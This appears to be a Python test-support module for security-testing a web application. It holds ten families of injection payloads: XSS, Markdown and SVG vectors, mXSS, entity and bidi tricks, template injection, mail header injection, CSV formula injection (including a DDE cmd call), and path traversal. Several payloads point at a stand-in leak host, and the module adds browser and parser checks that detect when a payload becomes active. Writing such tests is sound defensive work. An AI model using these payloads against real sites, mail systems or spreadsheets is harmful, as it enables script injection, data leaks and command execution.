"""Texts that attack pages, mails, exports and files: ten families of at least thirty payloads each.

They follow the kinds in public lists (`PAYLOAD_SOURCES`), and are short, so that several fit into a name. A payload that
becomes active is recognised by its mark: an element or attribute called `hit`, a URL at `LEAK_HOST`, or a dialog. Joining
several into one text hides none of them: the first active mark is found, in a browser's DOM or by other parsers.
"""

import re
from collections.abc import Iterable, Iterator
from email.message import EmailMessage
from email.parser import BytesParser
from email.policy import default
from typing import Any

from playwright.sync_api import BrowserContext, Page
from selectolax.lexbor import LexborHTMLParser

LEAK_HOST = "leak.invalid"  # RFC 2606: no such host

PAYLOAD_SOURCES = {
    "html": "OWASP XSS Filter Evasion Cheat Sheet; PortSwigger XSS cheat sheet",
    "markdown": "CommonMark 0.31, sections 6.3 to 6.6; the raw HTML and link tests of markdown renderers",
    "svg": "html5sec.org, the vectors of SVG; SVG 2, chapter 15 (scripting)",
    "mxss": "Heiderich et al., mXSS Attacks (CCS 2013); the regression tests of HTML sanitizers on foreign content",
    "entities": "HTML, section 13.2.5.72 (character references); XML 1.0, section 4",
    "bidi": "Unicode Standard Annex 9; Boucher and Anderson, Trojan Source (CVE-2021-42574); Unicode TR 36",
    "template": "PortSwigger, Server-side template injection; CWE-1336; CWE-134",
    "header": "CWE-93, CWE-113; RFC 5322, section 2.2; RFC 2047, section 5",
    "csv": "OWASP CSV Injection; CWE-1236; RFC 4180",
    "path": "CWE-22, CWE-78, CWE-158; OWASP Path Traversal",
}

_TAGS = (
    "img src=x onerror=alert(1)", "img src=//{0}/i", "script src=//{0}/s", "iframe src=//{0}/f", "video poster=//{0}/v",
    "audio src=//{0}/a autoplay", "object data=//{0}/o", "embed src=//{0}/e", "link rel=stylesheet href=//{0}/l",
    "body onload=alert(1)", "input autofocus onfocus=alert(1)", "details open ontoggle=alert(1)", "base href=//{0}/",
    "meta http-equiv=refresh content='0;//{0}'", "form action=//{0}/p", "button formaction=//{0}/b", "marquee onstart=alert(1)",
    "a href=javascript:alert(1)", "table background=//{0}/t", "textarea autofocus onfocus=alert(1)", "portal src=//{0}/p",
    "source srcset=//{0}/s", "style onload=alert(1)", "dialog open onfocus=alert(1) tabindex=0 autofocus",
    "p style=background:url(//{0}/c)", "template", "plaintext", "xmp", "noscript",
)  # fmt: skip
_HTML = (
    *(f"<{tag.format(LEAK_HOST).replace(' ', ' hit ', 1) if ' ' in tag else f'{tag} hit'}>" for tag in _TAGS),
    "<script hit>alert(1)</script>", "\"><script hit>alert(1)</script>", "'><b hit>", "\" hit=\"", "' hit='",
    "\" autofocus onfocus=alert(1) hit=\"", "' onmouseover=alert(1) hit='", "` onclick=alert(1) hit=`",
    "</textarea><img hit src=x onerror=alert(1)>", "</title><b hit>", "</script><b hit>", "</style><b hit>", "--><b hit>",
    "]]><b hit>", "<<b hit>>", "<b/hit>", "<b\thit>", "<b\nhit>", "<B HIT>", "</p><b hit>", "<!--><b hit>", "<hit>x</hit>",
)  # fmt: skip
_MARKDOWN = (
    "[hit](javascript:alert(1))", "[hit](JaVaScRiPt:alert(1))", "[hit](java&#115;cript:alert(1))", "[hit](data:text/html,hit)",
    "[hit](vbscript:alert(1))", f"[hit](//{LEAK_HOST}/m)", f"![hit](//{LEAK_HOST}/m.png)", f"![hit](https://{LEAK_HOST}/n.png \"t\")",
    "[hit]: javascript:alert(1)", f"[![hit](//{LEAK_HOST}/a)](//{LEAK_HOST}/b)", "<javascript:alert('hit')>", f"<https://{LEAK_HOST}/auto>",
    "**<b hit>**", "_<i hit>_", "`<b hit>`", "~~~<b hit>", "> <b hit>", "# <b hit>", "- <b hit>", "1. <b hit>",
    "[a](<javascript:alert(1)> 'hit')", "[a](x \"onmouseover=alert(1) hit\")", "[x](x'hit='y)", "![x](x\"hit=\"y)",
    "|a|b|\n|-|-|\n|<b hit>|c|", "[^hit]: <b hit>", "*[hit]: <b hit>", "\\<b hit\\>", "[<b hit>](x)", "```html\n<b hit>\n```",
    f"https://{LEAK_HOST}/bare?hit", f"www.{LEAK_HOST}/hit", "[hit](\x01javascript:alert(1))", "<b hit\n\n>", "{: hit=x onclick=alert(1) }",
)  # fmt: skip
_SVG = (
    "<svg hit onload=alert(1)>", "<svg><script hit>alert(1)</script>", "<svg><a hit xlink:href=javascript:alert(1)>",
    f"<svg><image hit href=//{LEAK_HOST}/i>", f"<svg><use hit href=//{LEAK_HOST}/u#a>", "<svg><animate hit onbegin=alert(1)>",
    "<svg><set hit attributeName=href to=javascript:alert(1)>", "<svg><foreignObject><b hit>", "<svg><style hit>*{}</style>",
    f"<svg><feImage hit href=//{LEAK_HOST}/f>", "<svg><desc><b hit>", "<svg><title><b hit>", "<svg/hit/onload=alert(1)>",
    "<svg\nhit\nonload=alert(1)>", "<svg><handler hit>alert(1)", "<svg><discard hit onbegin=alert(1)>", "<SVG HIT ONLOAD=alert(1)>",
    "<svg:svg hit>", "<svg xmlns:x=x x:hit=1>", "<svg><g hit onclick=alert(1)>", "<svg><text hit>x", f"<svg><script hit href=//{LEAK_HOST}/s>",
    "<svg><animateTransform hit onend=alert(1)>", f"<svg><pattern hit><image href=//{LEAK_HOST}/p>", "<svg><metadata><b hit>",
    f"<?xml-stylesheet href='//{LEAK_HOST}/x'?><svg hit>", "<svg><switch hit>", "<svg><p hit>", "<svg><![CDATA[<b hit>]]>",
    f"<svg><filter hit><feImage href='//{LEAK_HOST}/q'>", "<svg><mpath hit href=#x>", "<svg viewBox='0 0 1 1' hit>",
)  # fmt: skip
_MXSS = (
    "<svg><style><img hit src=x onerror=alert(1)>", "<math><mi><b hit>", "<math><annotation-xml encoding=text/html><b hit>",
    "<noscript><p title='</noscript><b hit>'>", "<math><mtext><table><mglyph><style><b hit>", "<svg></p><style><b hit>",
    "<listing>&lt;b hit&gt;</listing>", "<xmp><b hit></xmp>", "<table><b hit><tr>", "<select><b hit>", "<option><style><b hit>",
    "<form><math><mtext></form><form><mglyph><style><b hit>", "<a title='`><b hit>'>", "<p style='x:\"</p><b hit>\"'>",
    "<textarea><b hit></textarea>", "<title><b hit></title>", "<iframe srcdoc='<b hit>'>", "<noembed><b hit></noembed>",
    "<noframes><b hit></noframes>", "<template><b hit></template>", "<svg><annotation-xml><foreignObject><style><b hit>",
    "<br></br hit>", "<p><math><b hit>", "<a><a hit>", "<b><p></b><i hit>", "<table><td><svg><b hit>", "<math href=javascript:alert(1) hit>",
    "<image hit>", "<isindex hit>", "<keygen hit autofocus onfocus=alert(1)>", "<frameset hit onload=alert(1)>",
    "<svg><x><![CDATA[</x><b hit>]]>", "<b hit='&quot;'>", "<i title=\"&lt;b hit&gt;\">",
)  # fmt: skip
_ENTITIES = (
    "&lt;b hit&gt;", "&#60;b hit&#62;", "&#x3c;b hit&#x3e;", "&amp;lt;b hit&amp;gt;", "&LT;b hit&GT;", "&lt&gt hit", "&#0000060;b hit>",
    "&#x000003C;b hit>", "&quot; hit=&quot;", "&#34; hit=&#34;", "&apos; hit=&apos;", "&Tab;hit", "&NewLine;hit", "&colon;hit",
    "&#x1F600; hit", "&#0; hit", "&#x110000; hit", "&#xD800; hit", "&notanentity; hit", "&; hit", "&# hit", "&#x; hit", "&hit;",
    "<!ENTITY hit 'x'>", "<!DOCTYPE hit SYSTEM 'x'>", f"<!ENTITY % hit SYSTEM '//{LEAK_HOST}'>", "&lpar;hit&rpar;", "%3Cb%20hit%3E",
    "%253Cb%2520hit%253E", "\\u003cb hit\\u003e", "\\x3cb hit\\x3e", "+ADw-b hit+AD4-", "\uff1cb hit\uff1e", "\u2039b hit\u203a",
)  # fmt: skip
_BIDI = (
    *(f"hit {sign} tih" for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"),
    *(f"hit{sign}hit" for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2028\u2029\u0085\u034f\u115f\u3164\ufff9\ufffb"),
    "\u202ehit\u202d/*", "\u2067hit\u2066 x\u2069", "hit\u202egpj.exe", "\u0391lert hit", "h\u0456t", "hi\u0301\u0302\u0303t",
    "\u05d0 hit \u0645", "\U000e0068\U000e0069 hit", "hit\ufe0f", "\u202e<b hit>\u202c",
)  # fmt: skip
_TEMPLATE = (
    "{{7*7}} hit", "{{config}} hit", "{% raw %} hit", "{%print 1%} hit", "{# hit #}", "${7*7} hit", "#{7*7} hit", "<%=7*7%> hit",
    "{{''.__class__}} hit", "{{hit|safe}}", "{{[].append('hit')}}", "{{constructor.constructor('alert(1)')()}} hit", "{{{hit}}}",
    "{hit}", "{0} hit", "{0.__class__} hit", "%(hit)s", "%s hit", "%n%n hit", "%d hit", "{!r} hit", "$hit", "${hit}", "*{hit}", "@(hit)",
    "{{=<% %>=}} hit", "{php} hit", "<#assign hit=1>", "#set($hit=1)", "[[${hit}]]", "{question} hit", "{address} hit", "{name} {hit}",
    "{{ hit }}", "{% for hit in x %}", "{{", "}} hit", "{%", "{ hit",
)  # fmt: skip
_HEADER = (
    "hit\r\nBcc: hit@leak.invalid", "hit\nBcc: hit@leak.invalid", "hit\rBcc: hit@leak.invalid", "hit\r\n\r\n<b hit>", "hit\n\n<b hit>",
    "hit%0d%0aBcc: hit@leak.invalid", "hit\u2028Bcc: hit@leak.invalid", "hit\x0bBcc: hit@leak.invalid", "hit\x0cBcc: hit@leak.invalid",
    "hit\x1cBcc: hit@leak.invalid", "hit\x85Bcc: hit@leak.invalid", "hit\r\n Bcc: hit@leak.invalid", "hit\r\nReply-To: hit@leak.invalid",
    "hit\r\nFrom: hit@leak.invalid", "hit\r\nSubject: hit", "hit\r\nContent-Type: text/html", "hit\r\nMIME-Version: 9",
    "hit\r\nSet-Cookie: hit=1", "hit\r\nLocation: //leak.invalid", "=?utf-8?q?hit=0d=0aBcc:_x?=", "=?utf-8?b?aGl0DQpCY2M6IHg=?=",
    "=?utf-7?q?+AA0ACg-hit?=", "\"hit\" <hit@leak.invalid>", "hit <hit@leak.invalid>,", "hit; hit@leak.invalid", "hit, x@leak.invalid",
    "<hit@leak.invalid>", "hit:;", "group: hit@leak.invalid;", "hit (x@leak.invalid)", "\"hit", "hit\\", "\\\"hit", ".\r\nQUIT hit",
    "hit\r\n.\r\nMAIL FROM:<x@leak.invalid>", "hit\x00@leak.invalid", "\x1b]8;;//leak.invalid\x07hit",
)  # fmt: skip
_CSV = (
    "=1+1 hit", "+1+1 hit", "-1+1 hit", "@SUM(1) hit", "=HYPERLINK(\"//leak.invalid\",\"hit\")", "=cmd|'/C hit'!A0", "\t=1+1 hit",
    "\r=1+1 hit", "\n=1+1 hit", " =1+1 hit", "\uff1d1+1 hit", "\uff0b1 hit", "\uff0d1 hit", "\uff20SUM(1) hit", "=IMPORTXML(\"//leak.invalid\",\"hit\")",
    "=WEBSERVICE(\"//leak.invalid/hit\")", "=DDE(\"hit\",\"x\")", "hit;=1+1", "hit,=1+1", "hit\t=1+1", "\"hit", "hit\"", "\"\"hit",
    "\"=1+1\" hit", "'=1+1 hit", "hit\",\"=1+1", "hit\r\n=1+1,x", "|hit", "%hit", "=\"hit\"&A1", "@hit", "-hit", "+hit", "=hit", "--1 hit",
)  # fmt: skip
_PATH = (
    "../../etc/passwd hit", "..\\..\\hit", "/etc/hit", "C:\\hit", "\\\\leak.invalid\\hit", "....//....//hit", "..%2f..%2fhit",
    "..%252fhit", "..%c0%afhit", "file:///etc/hit", "hit\x00.txt", "hit%00.txt", ".hit", "hit.", "hit ", "CON.hit", "NUL hit", "aux.hit",
    "-rf hit", "--hit", "; hit", "| hit", "$(hit)", "`hit`", "&& hit", "hit > /tmp/x", "~/hit", "~root/hit", "*hit", "?hit", "hit/../../x",
    "./hit", "//leak.invalid/hit", "hit#?&=", "hit.html/.php", "jar:file:hit!/x", "php://filter/hit", "gopher://leak.invalid/hit",
)  # fmt: skip

PAYLOAD_FAMILIES = {
    "html": _HTML, "markdown": _MARKDOWN, "svg": _SVG, "mxss": _MXSS, "entities": _ENTITIES, "bidi": _BIDI, "template": _TEMPLATE,
    "header": _HEADER, "csv": _CSV, "path": _PATH,
}  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(one for family in PAYLOAD_FAMILIES.values() for one in family))


def pack_payloads(max_length: int, separator: str = "\n\n", payloads: Iterable[str] = PAYLOADS) -> list[str]:
    """Join the payloads, each once, to texts of up to `max_length` characters."""
    texts: list[str] = []
    for payload in payloads:
        if texts and len(joined := f"{texts[-1]}{separator}{payload}") <= max_length:
            texts[-1] = joined
        else:
            texts.append(payload)
    return texts


_LEAK_HOST_PATTERN = re.escape(LEAK_HOST)
_DANGEROUS_URL = re.compile(
    rf"\s*(?:(?:java|vb)script:|data:text|(?:https?:)?//[^/]*{_LEAK_HOST_PATTERN})", re.IGNORECASE
)
# Experts may link to any web page in an answer: only people follow such a link.
_WEB_LINK = re.compile(rf"https?://[^/]*{_LEAK_HOST_PATTERN}")
_URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "srcset",
    "poster",
    "data",
    "background",
    "srcdoc",
)

# What `find_live_html` does, in the DOM of a browser.
FIND_LIVE_HTML_SCRIPT = """([urlAttributes, dangerousUrl, webLink, leakHost]) => [...document.querySelectorAll('*')].flatMap(element => [
  ...(element.localName.includes('hit') ? ['<' + element.localName + '>'] : []),
  ...[...element.attributes].filter(attribute =>
    attribute.localName === 'hit' || attribute.name.startsWith('on') ||
    (urlAttributes.includes(attribute.name) && new RegExp('^' + dangerousUrl, 'i').test(attribute.value) &&
      !(element.localName === 'a' && new RegExp('^' + webLink).test(attribute.value))) ||
    (attribute.name === 'style' && attribute.value.includes(leakHost))
  ).map(attribute => element.localName + ' ' + attribute.name + '=' + attribute.value),
])"""
FIND_LIVE_HTML_ARGUMENTS = [list(_URL_ATTRIBUTES), _DANGEROUS_URL.pattern, _WEB_LINK.pattern, LEAK_HOST]


def find_live_html(page: str) -> list[str]:
    """Return the active elements and attributes from payloads in a page, as Lexbor parses it."""
    found = []
    for element in LexborHTMLParser(page).css("*"):
        tag = element.tag or ""
        if "hit" in tag:
            found.append(f"<{tag}>")
        for name, value in element.attributes.items():
            if _is_live_attribute(tag, name, value or ""):
                found.append(f"{tag} {name}={value}")
    return found


def _is_live_attribute(tag: str, name: str, value: str) -> bool:
    if name == "hit" or name.startswith("on"):
        return True
    if name == "style":
        return LEAK_HOST in value
    is_link = tag == "a" and _WEB_LINK.match(value)
    return name in _URL_ATTRIBUTES and bool(_DANGEROUS_URL.match(value)) and not is_link


def parse_mail_with_python(raw: bytes) -> EmailMessage:
    """Parse a mail with the parser of Python's standard library."""
    return BytesParser(policy=default).parsebytes(raw)  # type: ignore[return-value, arg-type, unused-ignore]


class BrowserWatch:
    """Records what a browser does that our pages never cause: foreign requests, dialogs, errors, windows, violations."""

    def __init__(self, context: BrowserContext, base_url: str) -> None:
        self.findings: list[tuple[str, Any]] = []
        self.base_url = base_url
        context.on("request", self._record_request)
        context.on("dialog", self._record_dialog)
        context.on(
            "console",
            lambda message: self.findings.append(("console", message.text)) if message.type == "error" else None,
        )
        context.on("weberror", lambda fault: self.findings.append(("error", str(fault.error))))
        context.on("page", lambda page: self.findings.append(("window", page.url)) if len(context.pages) > 1 else None)
        context.expose_function("violated", lambda directive: self.findings.append(("policy", directive)))
        context.add_init_script(
            "document.addEventListener('securitypolicyviolation', event => violated(event.violatedDirective + ' ' + event.blockedURI))"
        )

    def _record_request(self, request: Any) -> None:
        if not request.url.startswith((f"{self.base_url}/", "data:", "about:", "blob:")):
            self.findings.append(("request", request.url))

    def _record_dialog(self, dialog: Any) -> None:
        self.findings.append(("dialog", dialog.message))
        dialog.dismiss()

    def check_page(self, page: Page) -> None:
        """Record the active payloads in an open page and its frames."""
        for frame in page.frames:
            active = frame.evaluate(FIND_LIVE_HTML_SCRIPT, FIND_LIVE_HTML_ARGUMENTS)
            self.findings += [("alive", (page.url, description)) for description in active]


def find_bidi_controls(text: str) -> Iterator[str]:
    """Yield the bidirectional controls in a text, which no export may contain (Unicode Standard Annex 9)."""
    return (character for character in text if character in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
